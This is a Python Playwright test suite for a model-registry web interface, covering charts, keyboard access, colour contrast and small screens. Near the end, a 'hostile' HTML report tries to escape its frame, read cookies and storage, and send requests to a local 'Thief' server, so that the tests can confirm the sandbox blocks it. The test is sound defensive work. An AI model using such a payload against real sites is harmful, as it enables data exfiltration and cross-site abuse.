"""The pages in a real Chromium: the plot is drawn, the keyboard is enough, and a hostile report reaches nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from slipway.storage import open_store
from tests.integration.web.conftest import start
from tests.integration.web.sample import NAME, Sample

MODEL = f"/models/{NAME}"
VIEW, SNAPSHOT = "/features/default/visits", "/features/default/churn/snapshots/2"


@pytest.fixture(scope="module")
def browser(chromium: Path) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        made = playwright.chromium.launch(executable_path=str(chromium), args=["--no-sandbox"])
        yield made
        made.close()


@pytest.fixture
def tab(browser: Browser) -> Iterator[Page]:
    """A tab that fails the test when a page's own script fails, or its policy stops something of ours."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    problems: list[str] = []
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda message: problems.append(message.text) if message.type == "error" else None)
    yield page
    context.close()
    assert problems == []


def test_metrics_are_drawn_and_can_be_chosen(tab: Page, service: str) -> None:
    tab.goto(f"{service}{MODEL}")
    expect(tab.locator("#metrics-plot canvas")).to_be_visible()
    toggle = tab.get_by_role("button", name="log_loss")
    expect(toggle).to_have_attribute("aria-pressed", "false")
    toggle.press("Enter")
    expect(toggle).to_have_attribute("aria-pressed", "true")


def test_a_click_on_the_plot_opens_the_version(tab: Page, service: str) -> None:
    tab.goto(f"{service}{MODEL}")
    area = tab.locator("#metrics-plot .u-over")
    area.scroll_into_view_if_needed()
    box = area.bounding_box()
    assert box is not None
    tab.mouse.move(box["x"] + box["width"] - 30, box["y"] + 60)
    tab.mouse.click(box["x"] + box["width"] - 30, box["y"] + 60)
    tab.wait_for_url("**/versions/14")


def test_the_keyboard_is_enough(tab: Page, service: str) -> None:
    """From the start page to a model, its champion and a report, without a mouse."""
    tab.goto(f"{service}/")
    tab.keyboard.press("Tab")
    expect(tab.locator("a.skip")).to_be_focused()
    tab.keyboard.press("/")
    expect(tab.locator("#find")).to_be_focused()
    tab.keyboard.type("cancer")
    tab.keyboard.press("Enter")
    tab.wait_for_url("**/?q=cancer")
    for link, address in (
        (tab.get_by_role("link", name="breast-cancer", exact=True).first, f"**{MODEL}"),
        (tab.get_by_role("link", name="champion 12"), f"**{MODEL}/versions/12"),
        (tab.get_by_role("link", name="roc.html"), "**/reports/roc.html"),
    ):
        link.focus()
        expect(link).to_be_focused()
        tab.keyboard.press("Enter")
        tab.wait_for_url(address)


def test_everything_that_can_be_focused_is_reached_and_seen(tab: Page, service: str) -> None:
    tab.goto(f"{service}{MODEL}/versions/12")
    reached = set()
    for _ in range(60):
        tab.keyboard.press("Tab")
        reached.add(
            tab.evaluate(
                """() => { const e = document.activeElement, s = getComputedStyle(e);
                const ring = s.outlineStyle !== 'none' || e.closest('svg') !== null;
                return [e.tagName, e.textContent.trim().slice(0, 40), ring].join('|'); }"""
            )
        )
    assert any("roc.html" in one for one in reached)
    assert any("@champion" in one for one in reached), "nodes of the graph that lead somewhere are links"
    assert [one for one in reached if one.endswith("false") and not one.startswith("BODY")] == []


def test_an_ingestion_is_chosen_with_the_keyboard(tab: Page, service: str) -> None:
    """From the list to a view, and along its timeline to the day on which countries were missing."""
    tab.goto(f"{service}/features")
    link = tab.get_by_role("link", name="visits", exact=True)
    link.focus()
    tab.keyboard.press("Enter")
    tab.wait_for_url(f"**{VIEW}")
    tab.locator("div.graph").focus()
    for _ in range(23):
        tab.keyboard.press("Tab")
    focused = tab.evaluate("document.activeElement.getAttribute('aria-label')")
    assert "missing" in focused and "newest event" in focused
    tab.keyboard.press("Enter")
    tab.wait_for_url("**?version=23#columns")
    expect(tab.get_by_text("table version 23")).to_be_visible()
    picture = tab.get_by_role("img", name="spent, double; histogram")
    box = picture.bounding_box()
    assert box is not None and box["width"] > 150 and box["height"] > 50, "the picture is drawn"
    numbers = tab.get_by_text("Numbers of spent")
    numbers.focus()
    tab.keyboard.press("Enter")
    expect(tab.get_by_role("row", name="mean ± deviation").first).to_be_visible()


def test_nothing_of_a_view_is_wider_than_a_phone(browser: Browser, service: str) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 800})
    page = context.new_page()
    for path in (VIEW, SNAPSHOT, "/features"):
        page.goto(service + path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
    context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(
    "path",
    [
        "/",
        MODEL,
        f"{MODEL}/versions/12",
        f"{MODEL}/compare?a=9&b=12",
        "/deployments",
        "/search?q=metrics.roc_auc>0.9",
        "/features",
        VIEW,
        SNAPSHOT,
    ],
)
def test_text_stands_out_from_what_is_behind_it(tab: Page, service: str, path: str, scheme: str) -> None:
    """WCAG AA: 4.5 to 1 for every piece of text, in both schemes."""
    tab.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    tab.goto(service + path)
    assert tab.evaluate(CONTRAST) == []


def test_a_small_screen_needs_no_scrolling_sideways(tab: Page, service: str) -> None:
    tab.set_viewport_size({"width": 390, "height": 800})
    for path in ("/", MODEL, f"{MODEL}/versions/12", "/deployments"):
        tab.goto(service + path)
        assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth"), path


@pytest.mark.parametrize("width", [390, 1280])
def test_names_of_aliases_and_the_legend_cover_nothing(tab: Page, service: str, width: int) -> None:
    tab.set_viewport_size({"width": width, "height": 900})
    tab.goto(f"{service}{MODEL}")
    plot = tab.locator("#metrics-plot[data-ready] .uplot")
    plot.wait_for()
    labels = tab.evaluate("JSON.parse(document.querySelector('#metrics-plot .uplot').dataset.labels)")
    assert {alias for alias, *_ in labels} == {"champion", "challenger"}
    for number, (_, row, left, right) in enumerate(labels):
        assert all(row != r or left >= end or right <= begin for _, r, begin, end in labels[:number]), labels
    box, over = plot.bounding_box(), tab.locator("#metrics-plot .u-over").bounding_box()
    legend, note = tab.locator("#metrics-plot .u-legend").bounding_box(), tab.locator("#metrics-plot + p").bounding_box()
    assert box is not None and over is not None and legend is not None and note is not None
    assert over["y"] - box["y"] >= 16 * (1 + max(row for _, row, *_ in labels)), "names stand above what is drawn"
    assert all(right <= box["width"] for *_, right in labels)
    assert legend["y"] + legend["height"] <= note["y"]


CONTRAST = """() => {
  const canvas = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
  const rgba = (color) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = color; canvas.fillRect(0, 0, 1, 1);
    return canvas.getImageData(0, 0, 1, 1).data; };
  const light = ([r, g, b]) => { const f = (c) => { c /= 255; return c <= .03928 ? c / 12.92 : ((c + .055) / 1.055) ** 2.4; };
    return .2126 * f(r) + .7152 * f(g) + .0722 * f(b); };
  const behind = (e) => { for (; e; e = e.parentElement) { const c = rgba(getComputedStyle(e).backgroundColor);
    if (c[3] === 255) return c; } return rgba('white'); };
  const bad = [];
  for (const e of document.querySelectorAll('main *, header *')) {
    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
    if (!own || e.closest('svg') || e.closest('.hidden') || e.closest('.u-legend') || !e.checkVisibility()) continue;
    const a = light(rgba(getComputedStyle(e).color)), b = light(behind(e));
    const ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
    if (ratio < 4.5) bad.push(`${e.tagName} ${e.className} ${e.textContent.trim().slice(0, 30)}: ${ratio.toFixed(2)}`);
  }
  return bad;
}"""


class Thief(BaseHTTPRequestHandler):
    """Somebody's server on the network, to which a report wants to tell what it finds."""

    got: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.got.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def thief() -> Iterator[str]:
    Thief.got = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Thief)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def hostile(thief: str, *, alone: bool = False) -> str:
    """A report that tries what it can. `alone`: without leaving its own window, which nobody can forbid it."""
    leave = "" if alone else f"attempt('top', () => {{ top.location = '{thief}/top'; return 'moved'; }});"
    return f"""<!doctype html><body><p id="ran">ran</p><script>
      const said = [];
      const attempt = (name, f) => {{ try {{ said.push(name + ':' + f()); }} catch (e) {{ said.push(name + ':stopped'); }} }};
      attempt('parent', () => parent.document.title);
      attempt('cookie', () => {{ document.cookie = 'a=b'; return document.cookie; }});
      attempt('storage', () => localStorage.setItem('a', 'b'));
      attempt('origin', () => self.origin);
      {leave}
      attempt('popup', () => open('{thief}/popup') ? 'opened' : 'stopped');
      new Image().src = '{thief}/image';
      document.body.append(Object.assign(document.createElement('script'), {{src: '{thief}/script'}}));
      const frame = document.createElement('iframe'); frame.src = '{thief}/frame'; document.body.append(frame);
      const form = document.createElement('form'); form.action = '{thief}/form'; document.body.append(form); form.submit();
      const calls = [fetch('/api/2.0/mlflow/registered-models/search').then(() => said.push('api:read'), () => said.push('api:stopped')),
        fetch('{thief}/fetch').then(() => said.push('network:reached'), () => said.push('network:stopped'))];
      Promise.all(calls).then(() => document.body.append(Object.assign(document.createElement('pre'), {{id: 'said', textContent: said.join(' ')}})));
    </script>"""


def test_a_hostile_report_reaches_nothing(browser: Browser, thief: str, tmp_path: Path) -> None:
    sample = Sample(
        open_store(f"file://{tmp_path}"), reports={"evil.html": hostile(thief), "alone.html": hostile(thief, alone=True)}
    )
    sample.version("default/m", 1)
    process, address = start(sample.registry)
    try:
        context = browser.new_context()
        for path in ("reports/evil.html", "raw/alone.html"):
            page = context.new_page()
            page.goto(f"{address}/models/default/m/versions/1/{path}")
            inside = page.frame_locator("iframe.report") if path.startswith("reports") else page
            said = inside.locator("#said")
            said.wait_for()
            words = dict(one.partition(":")[::2] for one in (said.text_content() or "").split())
            assert words["origin"] == "null"
            assert words["cookie"] == words["storage"] == words["api"] == words["network"] == "stopped"
            assert words["popup"] == "stopped"
            if path.startswith("reports"):
                assert words["parent"] == words["top"] == "stopped"
                assert page.url.startswith(address)
            page.close()
        context.close()
    finally:
        process.terminate()
        process.wait(20)
    assert Thief.got == []


def test_the_same_report_elsewhere_would_reach_it(browser: Browser, thief: str) -> None:
    """The report does what the test before thinks it does: without our frame and headers it reaches the network."""
    page = browser.new_page()
    body = hostile(thief, alone=True).replace("form.submit()", "")
    page.route("**/page", lambda route: route.fulfill(body=body, content_type="text/html"))
    page.goto(f"{thief}/page")
    page.locator("#said").wait_for()
    page.close()
    assert {"/image", "/fetch", "/frame"} <= set(Thief.got)
